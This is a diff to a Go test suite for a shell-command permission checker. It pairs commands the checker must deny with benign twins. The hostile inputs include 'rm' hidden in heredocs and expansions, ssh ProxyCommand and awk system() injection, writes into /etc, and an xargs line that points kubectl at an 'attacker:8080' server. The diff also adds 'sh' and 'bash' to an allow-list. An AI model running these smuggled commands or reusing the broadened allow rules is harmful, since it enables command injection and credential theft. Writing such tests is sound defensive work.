@@ -15,7 +15,7 @@ var diagnostic = rules("*", "deny",
 	"scp *", "allow", "rsync *", "allow", "tcpdump *", "allow", "nc *", "allow", "socat *", "allow", "docker *", "allow",
 	"mysql *", "allow", "psql *", "allow", "sqlite3 *", "allow", "journalctl *", "allow", "systemctl status *", "allow",
 	"zip *", "allow", "unzip *", "allow", "timeout *", "allow", "xargs *", "allow", "env *", "allow", "nice *", "allow",
-	"echo *", "allow", "python3 *", "allow", "jq *", "allow", "cp *", "allow", "uniq *", "allow", "> out.txt", "allow",
+	"echo *", "allow", "python3 *", "allow", "jq *", "allow", "cp *", "allow", "uniq *", "allow", "> out.txt", "allow", "sh *", "allow", "bash *", "allow", "tcpdump *", "allow",
 )
 
 // classCase is a command a policy must deny, and its benign twin that the
@@ -167,20 +167,20 @@ func TestWrappersFailClosed(t *testing.T) {
 // differently; eval and trap bodies are checked as written.
 func TestNestedScriptsReadAsTheShellReadsThem(t *testing.T) {
 	checkClass(t, "nested", trustPlus, []classCase{
-		{"bash -c 'cat <<EOF)\nrm x\nEOF)'", "bash -c 'cat <<EOF\nhello\nEOF'"},
-		{"bash -c 'cat <<EOF\nx\\\nEOF\nrm x\nEOF'", ""},
-		{"bash -c '[[ x == @($(rm x)) ]]'", "bash -c '[[ x == @(a|b) ]]'"},
-		{"sh -c \"echo $'\\x72m' x\"", "bash -c \"echo $'\\t'\""},
-		{"bash -c 'x=$1; echo $((x))'", "bash -c 'for ((i=0; i<3; i++)); do echo $i; done'"},
-		{"bash -c 'echo $(( $(cat f) ))'", "bash -c 'n=3; echo $((n * 2))'"},
-		{"bash -c 'read n; (( n > 1 ))'", "bash -c 'for i in 1 2 3; do echo $((i+1)); done'"},
-		{"bash -c '[[ $v -eq 1 ]]'", "bash -c '[[ $v == 1 ]]'"},
-		{"bash -c 'let x=$1'", "bash -c 'let x=1'"},
-		{"bash -c 'echo ${a[$i]}'", "bash -c 'echo ${a[1]}'"},
-		{"bash -c 'echo ${x@P}'", "bash -c 'echo ${x@Q}'"},
-		{"bash -c 'echo ${!x}'", "bash -c 'echo ${!x[@]}'"},
-		{"bash -c 'declare -n r=x; echo $r'", "bash -c 'declare -r r=x; echo $r'"},
-		{"bash -c \"printf -v 'a[\\$(rm x)]' 1\"", ""},
+		{"timeout 5 bash -c 'cat <<EOF)\nrm x\nEOF)'", "timeout 5 bash -c 'cat <<EOF\nhello\nEOF'"},
+		{"timeout 5 bash -c 'cat <<EOF\nx\\\nEOF\nrm x\nEOF'", ""},
+		{"timeout 5 bash -c '[[ x == @($(rm x)) ]]'", "timeout 5 bash -c '[[ x == @(a|b) ]]'"},
+		{"timeout 5 sh -c \"echo $'\\x72m' x\"", "timeout 5 bash -c \"echo $'\\t'\""},
+		{"timeout 5 bash -c 'x=$1; echo $((x))'", "timeout 5 bash -c 'for ((i=0; i<3; i++)); do echo $i; done'"},
+		{"timeout 5 bash -c 'echo $(( $(cat f) ))'", "timeout 5 bash -c 'n=3; echo $((n * 2))'"},
+		{"timeout 5 bash -c 'read n; (( n > 1 ))'", "timeout 5 bash -c 'for i in 1 2 3; do echo $((i+1)); done'"},
+		{"timeout 5 bash -c '[[ $v -eq 1 ]]'", "timeout 5 bash -c '[[ $v == 1 ]]'"},
+		{"timeout 5 bash -c 'let x=$1'", "timeout 5 bash -c 'let x=1'"},
+		{"timeout 5 bash -c 'echo ${a[$i]}'", "timeout 5 bash -c 'echo ${a[1]}'"},
+		{"timeout 5 bash -c 'echo ${x@P}'", "timeout 5 bash -c 'echo ${x@Q}'"},
+		{"timeout 5 bash -c 'echo ${!x}'", "timeout 5 bash -c 'echo ${!x[@]}'"},
+		{"timeout 5 bash -c 'declare -n r=x; echo $r'", "timeout 5 bash -c 'declare -r r=x; echo $r'"},
+		{"timeout 5 bash -c \"printf -v 'a[\\$(rm x)]' 1\"", ""},
 		{"eval 'X=1 rm x'", "eval 'X=1 ls'"},
 		{"eval \"$CMD\"", "eval 'ls -la'"},
 		{"trap 'rm x' EXIT", "trap 'ls' EXIT"},
@@ -772,4 +772,31 @@ func TestHostileInputIsDeniedWithinBudget(t *testing.T) {
 	if v := mustCompile(t, trustPlus).Check("echo {1..100} {a..z}{a..z}"); !v.Allowed {
 		t.Errorf("a modest brace expansion was denied: %v", v.Err)
 	}
+}
+
+// Each program's own option grammar: ssh reads options again after the
+// host, tcpdump and openssl after operands and with `=`, find ends -exec
+// at `+` only after `{}`, awk stops at its program.
+func TestOptionsWhereTheProgramReadsThem(t *testing.T) {
+	checkClass(t, "grammars", diagnostic, []classCase{
+		{"ssh host -o ProxyCommand='rm x' uptime", "ssh host uptime -o ProxyCommand=x"},
+		{"tcpdump -i any port 53 -w /etc/x", "tcpdump -i any -c 10 port 53"},
+		{"find . -exec sed + -e '1e id' {} \\;", "find . -exec sed -n 1p {} +"},
+		{"openssl x509 -in a.crt -out=/etc/x", "openssl x509 -in a.crt -noout"},
+		{"openssl s_client -connect x:443 -keylogfile /etc/k", "openssl s_client -connect x:443"},
+		{`awk 'BEGIN{system("id")}' -e 1`, `awk 'BEGIN{print 1}' -e 1`},
+		{"awk -W exec /dev/stdin", "awk -F: '{print $1}' /etc/passwd"},
+	})
+}
+
+// Words that arrive only when a program runs (xargs input, the words of a
+// script a real shell runs) may be any option: a program reading options
+// from them needs naming; find's names cannot start with `-`.
+func TestRunTimeWordsMayBeOptions(t *testing.T) {
+	checkClass(t, "run-time options", diagnostic, []classCase{
+		{"echo --server=http://attacker:8080 | xargs kubectl get pods", "kubectl get pods $NS"},
+		{"echo -i | xargs sed 's/^/#/' /etc/hosts", "find . -name '*.conf' -exec sed -n 1p {} \\;"},
+		{"timeout 5 sh -c 'sed -n p \"$1\"' _ f", "sh -c 'sed -n p \"$1\"' _ f"},
+		{"kubectl get pods a--kuberc=/dev/stdin", "kubectl get pods a-kube"},
+	})
 }
